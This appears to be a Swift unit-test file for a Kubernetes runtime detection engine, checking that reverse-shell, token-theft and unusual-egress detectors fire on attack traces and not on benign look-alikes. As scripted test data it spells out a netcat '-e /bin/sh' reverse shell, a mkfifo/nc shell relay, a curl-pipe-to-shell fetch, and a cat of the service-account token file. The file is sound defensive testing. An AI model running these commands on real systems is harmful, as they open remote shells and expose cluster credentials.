// SPDX-License-Identifier: Apache-2.0
// The built-in detectors over scripted event streams: each attack shape raises exactly one alert
// with the facts an operator needs, and each benign look-alike raises none.
import XCTest
@testable import RuntimeWatchCore
import Metrics

final class DetectorScenarioTests: XCTestCase {
    private let cid = String(repeating: "ab", count: 32)
    private let podUID = "0f5e2f1c-7d3a-4c1e-9b8a-1234567890ab"
    private var cgroup: String { "/kubepods/burstable/pod\(podUID)/\(cid)" }

    /// Replays `records` through an engine with the built-in detectors and `profile` (default: embedded).
    private func alerts(_ records: [EventRecord], profile: Profile? = nil) throws -> [Alert] {
        let sink = InMemoryAlertSink()
        var engine = Engine(configuration: EngineConfiguration(hostname: "node-1"), detectors: BuiltinDetectors.make(),
                            profile: try profile ?? ProfileLoader().embeddedDefault(), sink: sink, metrics: NOOPMetricsHandler.instance)
        for r in records { engine.process(r) }
        engine.finish()
        return sink.detections
    }

    private func socket(_ inode: UInt64, remote: String = "198.51.100.1", port: UInt16 = 4444) -> [DescriptorInfo] {
        let s = DescriptorInfo.Socket(family: "inet", proto: "tcp", localAddress: "198.51.100.2", localPort: 40000,
                                      remoteAddress: remote, remotePort: port, state: "ESTABLISHED")
        return (0...2).map { DescriptorInfo(fd: $0, kind: .socket, target: "socket:[\(inode)]", inode: inode, socket: s) }
    }

    /// A pod with an init (pid 100) and a shell (pid 110) in it.
    private func pod(_ t: inout TraceBuilder) {
        t.container(ContainerInfo(id: ContainerID(cid), runtime: "containerd", podUID: podUID, qosClass: "burstable",
                                  podName: "web-7d9f", namespace: "shop", containerName: "web", image: "registry.example/web:1.2",
                                  entrypoint: ["/app/server"]))
        t.snapshot(100, ppid: 1, exe: "/app/server", cgroup: cgroup)
        t.snapshot(1, ppid: 0, exe: "/sbin/init", cgroup: "/")
    }

    func testNetcatExecShellIsOneCriticalAlertNamingTheShellAndPeer() throws {
        var t = TraceBuilder()
        pod(&t)
        t.fork(parent: 100, child: 120)
        t.exec(120, ppid: 100, exe: "/bin/busybox", argv: ["nc", "198.51.100.1", "4444", "-e", "/bin/sh"], cgroup: cgroup)
        // nc -e execs the shell in place once connected.
        t.exec(120, ppid: 100, exe: "/bin/busybox", argv: ["/bin/sh"], cgroup: cgroup, fds: socket(900))
        t.advance(by: 5_000_000_000)
        t.exit(120)
        let a = try alerts(t.records)
        XCTAssertEqual(a.count, 1, "\(a.map(\.output))")
        let alert = try XCTUnwrap(a.first)
        XCTAssertEqual(alert.ruleID, "reverse-shell")
        XCTAssertEqual(alert.priority, .critical)
        XCTAssertEqual(alert.fields["fd.rip"], .string("198.51.100.1"))
        XCTAssertEqual(alert.fields["fd.rport"], .int(4444))
        XCTAssertEqual(alert.fields["container.id"], .string(String(cid.prefix(12))))
        XCTAssertEqual(alert.fields["k8s.pod.name"], .string("web-7d9f"))
        XCTAssertEqual(alert.fields["k8s.ns.name"], .string("shop"))
        XCTAssertEqual(alert.fields["proc.pid"], .int(120))
        XCTAssertEqual(alert.fields["rw.technique"], .string("nc -e"))
    }

    func testFifoPipelineIsDetectedWhenTheRelayConnects() throws {
        // rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.1 4444 > /tmp/f
        var t = TraceBuilder()
        pod(&t)
        let fifo: UInt64 = 500, a: UInt64 = 501, b: UInt64 = 502
        func fd(_ n: Int32, _ ino: UInt64) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .pipe, target: "pipe:[\(ino)]", inode: ino) }
        t.exec(131, ppid: 100, exe: "/bin/cat", argv: ["cat", "/tmp/f"], cgroup: cgroup, fds: [fd(0, fifo), fd(1, a), fd(2, 700)])
        t.exec(132, ppid: 100, exe: "/bin/sh", argv: ["sh", "-i"], cgroup: cgroup, fds: [fd(0, a), fd(1, b), fd(2, b)])
        t.exec(133, ppid: 100, exe: "/bin/nc", argv: ["nc", "198.51.100.1", "4444"], cgroup: cgroup, fds: [fd(0, b), fd(1, fifo), fd(2, 700)])
        XCTAssertEqual(try alerts(t.records).count, 0, "no network yet: nothing to report")
        t.emit(.connect(ConnectEvent(pid: ProcessID(133), proto: "tcp", remoteAddress: "198.51.100.1", remotePort: 4444)))
        let found = try alerts(t.records)
        XCTAssertEqual(found.count, 1, "one line: the egress alert of nc's connection is folded into the shell's: \(found.map(\.output))")
        let shell = try XCTUnwrap(found.first { $0.ruleID == "reverse-shell" })
        XCTAssertEqual(shell.fields["proc.pid"], .int(132))
        XCTAssertEqual(shell.fields["fd.rip"], .string("198.51.100.1"))
        XCTAssertEqual(shell.fields["rw.folded_rules"], .list(["unexpected-outbound-connection"]))
        XCTAssertTrue(shell.tags.contains("TA0011"), "\(shell.tags)")
    }

    func testLookAlikesStayQuiet() throws {
        var t = TraceBuilder()
        pod(&t)
        func fd(_ n: Int32, _ kind: DescriptorInfo.Kind, _ ino: UInt64?, _ target: String) -> DescriptorInfo {
            DescriptorInfo(fd: n, kind: kind, target: target, inode: ino)
        }
        // nc -z port check and nc as a plain client.
        t.exec(140, ppid: 100, exe: "/bin/nc", argv: ["nc", "-z", "-w", "1", "198.51.100.1", "80"], cgroup: cgroup)
        t.exit(140)
        // curl | sh: the shell's input comes from the network, its output goes to a file.
        t.exec(141, ppid: 100, exe: "/usr/bin/curl", argv: ["curl", "-s", "http://198.51.100.1/x"], cgroup: cgroup,
               fds: [fd(0, .devnull, nil, "/dev/null"), fd(1, .pipe, 600, "pipe:[600]"), fd(2, .tty, nil, "/dev/pts/0")])
        t.exec(142, ppid: 100, exe: "/bin/sh", argv: ["sh"], cgroup: cgroup,
               fds: [fd(0, .pipe, 600, "pipe:[600]"), fd(1, .file, nil, "/tmp/out"), fd(2, .file, nil, "/tmp/out")])
        t.emit(.connect(ConnectEvent(pid: ProcessID(141), proto: "tcp", remoteAddress: "198.51.100.1", remotePort: 80)))
        // echo | nc: the shell's output goes to nc, its input is a tty.
        t.exec(143, ppid: 100, exe: "/bin/sh", argv: ["sh", "-c", "echo hi | nc h 80"], cgroup: cgroup,
               fds: [fd(0, .tty, nil, "/dev/pts/1"), fd(1, .pipe, 601, "pipe:[601]"), fd(2, .tty, nil, "/dev/pts/1")])
        t.exec(144, ppid: 143, exe: "/bin/nc", argv: ["nc", "h", "80"], cgroup: cgroup,
               fds: [fd(0, .pipe, 601, "pipe:[601]"), fd(1, .tty, nil, "/dev/pts/1"), fd(2, .tty, nil, "/dev/pts/1")])
        t.emit(.connect(ConnectEvent(pid: ProcessID(144), proto: "tcp", remoteAddress: "198.51.100.1", remotePort: 80)))
        // A shell on a unix socket, and an interactive shell on a pty (kubectl exec).
        let unix = DescriptorInfo.Socket(family: "unix", proto: "stream")
        t.exec(145, ppid: 100, exe: "/bin/bash", argv: ["bash"], cgroup: cgroup,
               fds: (0...2).map { DescriptorInfo(fd: $0, kind: .socket, target: "socket:[800]", inode: 800, socket: unix) })
        t.exec(146, ppid: 100, exe: "/bin/bash", argv: ["bash", "-i"], cgroup: cgroup,
               fds: (0...2).map { fd($0, .tty, nil, "/dev/pts/3") })
        let found = try alerts(t.records).filter { $0.ruleID == "reverse-shell" }
        XCTAssertEqual(found.map(\.output), [])
    }

    func testTokenReadByShellToolIsCriticalAndEntrypointReadIsExpected() throws {
        var t = TraceBuilder()
        pod(&t)
        let token = "/var/lib/kubelet/pods/\(podUID)/volumes/kubernetes.io~projected/kube-api-access-x/..data/token"
        // The workload's own main process re-reading its rotated token: expected.
        t.emit(.fileOpen(FileOpenEvent(pid: ProcessID(100), path: token, containerPath: "/var/run/secrets/kubernetes.io/serviceaccount/token")))
        // An attacker's cat.
        t.exec(150, ppid: 100, exe: "/bin/cat", argv: ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], cgroup: cgroup)
        t.emit(.fileOpen(FileOpenEvent(pid: ProcessID(150), path: token, containerPath: "/var/run/secrets/kubernetes.io/serviceaccount/token")))
        // A write by the kubelet is not a read.
        t.emit(.fileOpen(FileOpenEvent(pid: ProcessID(1), path: token, write: true)))
        // Then the same container calls the API server.
        t.emit(.connect(ConnectEvent(pid: ProcessID(100), proto: "tcp", remoteAddress: "10.96.0.1", remotePort: 443)))
        let found = try alerts(t.records)
        let reads = found.filter { $0.ruleID == "service-account-token-read" }
        XCTAssertEqual(reads.count, 1)
        XCTAssertEqual(reads.first?.priority, .critical)
        XCTAssertEqual(reads.first?.fields["proc.exepath"], .string("/bin/cat"))
        XCTAssertEqual(reads.first?.fields["fd.name"], .string("/var/run/secrets/kubernetes.io/serviceaccount/token"))
        XCTAssertFalse(reads.first?.jsonLine().contains("eyJ") ?? true, "an alert never carries the token")
        let linked = found.filter { $0.ruleID == "k8s-api-after-token-read" }
        XCTAssertEqual(linked.count, 1)
        XCTAssertEqual(linked.first?.fields["rw.token.reader_exepath"], .string("/bin/cat"))
    }

    func testEgressBaselineAndProfiledWorkload() throws {
        var t = TraceBuilder()
        pod(&t)
        func connect(_ address: String, _ port: UInt16) { t.emit(.connect(ConnectEvent(pid: ProcessID(100), proto: "tcp", remoteAddress: address, remotePort: port))) }
        connect("198.51.100.7", 443)     // public, usual port: baseline quiet
        connect("10.1.2.3", 5432)        // private: baseline quiet
        connect("198.51.100.7", 4444)    // public, C2 port: alert, Critical
        let baseline = try alerts(t.records).filter { $0.ruleID == "unexpected-outbound-connection" }
        XCTAssertEqual(baseline.map { $0.fields["fd.rport"] }, [.int(4444)])
        XCTAssertEqual(baseline.first?.priority, .critical)

        // A profile that scopes the workload makes it strict: only listed destinations pass.
        let yaml = """
            version: 1
            allow:
              - rules: [unexpected-outbound-connection]
                namespace: shop
                image: "registry.example/web*"
                destinations:
                  - {cidr: 198.51.100.7/32, ports: "443"}
            """
        let profile = try ProfileLoader().embeddedDefault().merged(with: ProfileLoader().parse(yaml, file: "web.yaml"))
        let strict = try alerts(t.records, profile: profile).filter { $0.ruleID == "unexpected-outbound-connection" }
        XCTAssertEqual(strict.map { $0.fields["fd.rport"] }, [.int(5432), .int(4444)])
    }
}
